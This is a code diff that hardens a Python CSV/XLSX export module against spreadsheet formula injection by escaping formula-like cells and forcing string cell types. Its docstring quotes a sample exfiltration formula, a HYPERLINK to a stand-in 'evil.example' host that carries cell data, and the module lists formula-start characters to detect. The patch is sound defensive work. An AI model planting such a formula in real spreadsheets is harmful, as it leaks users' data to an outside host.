@@ -2,16 +2,33 @@
 
 CSV is UTF-8 with a byte-order mark, so spreadsheet software shows the Chinese text. XLSX
 (openpyxl) has a bold header row, frozen below the header, with column widths that fit.
+
+Cells hold user text (titles, summaries, department names), so every cell goes through
+:func:`cell_value`: text that a spreadsheet would read as a formula gets a leading ``'``
+(formula injection: ``=HYPERLINK("http://evil.example/?d="&B2)`` would send the row away), and
+XLSX text cells are written as strings, never formulas. Numbers stay numbers. The files are
+served as user documents (``api.headers``).
 """
 import csv
 import io
 
-from flask import Response
 from openpyxl import Workbook
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
 
+from api.headers import user_document
+
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+# What spreadsheet software reads as the start of a formula (tab and CR too: some programs strip
+# them and then see the formula behind).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cell_value(value):
+    """``value`` safe as a cell: text starting like a formula prefixed with ``'``; others unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def _text_width(value):
@@ -24,20 +41,19 @@ def csv_response(columns, rows, filename):
     buffer = io.StringIO()
     buffer.write("\ufeff")
     writer = csv.writer(buffer)
-    writer.writerow([header for _, header in columns])
+    writer.writerow([cell_value(header) for _, header in columns])
     for row in rows:
-        writer.writerow(["" if row.get(key) is None else row.get(key) for key, _ in columns])
-    return Response(buffer.getvalue().encode("utf-8"), mimetype="text/csv; charset=utf-8",
-                    headers={"Content-Disposition": f"attachment; filename={filename}.csv"})
+        writer.writerow(["" if row.get(key) is None else cell_value(row.get(key)) for key, _ in columns])
+    return user_document(buffer.getvalue().encode("utf-8"), "text/csv; charset=utf-8", f"{filename}.csv")
 
 
 def xlsx_response(columns, rows, filename, title):
     workbook = Workbook()
     sheet = workbook.active
     sheet.title = title[:31]
-    sheet.append([header for _, header in columns])
+    _append(sheet, [header for _, header in columns])
     for row in rows:
-        sheet.append([row.get(key) for key, _ in columns])
+        _append(sheet, [row.get(key) for key, _ in columns])
     header_fill = PatternFill("solid", fgColor="DDE6F2")
     for cell in sheet[1]:
         cell.font, cell.fill = Font(bold=True), header_fill
@@ -48,5 +64,12 @@ def xlsx_response(columns, rows, filename, title):
     sheet.freeze_panes = "A2"
     buffer = io.BytesIO()
     workbook.save(buffer)
-    return Response(buffer.getvalue(), mimetype=XLSX_TYPE,
-                    headers={"Content-Disposition": f"attachment; filename={filename}.xlsx"})
+    return user_document(buffer.getvalue(), XLSX_TYPE, f"{filename}.xlsx")
+
+
+def _append(sheet, values):
+    """A row of cells; text is always a string cell (openpyxl makes text starting "=" a formula)."""
+    sheet.append([cell_value(v) for v in values])
+    for cell in sheet[sheet.max_row]:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
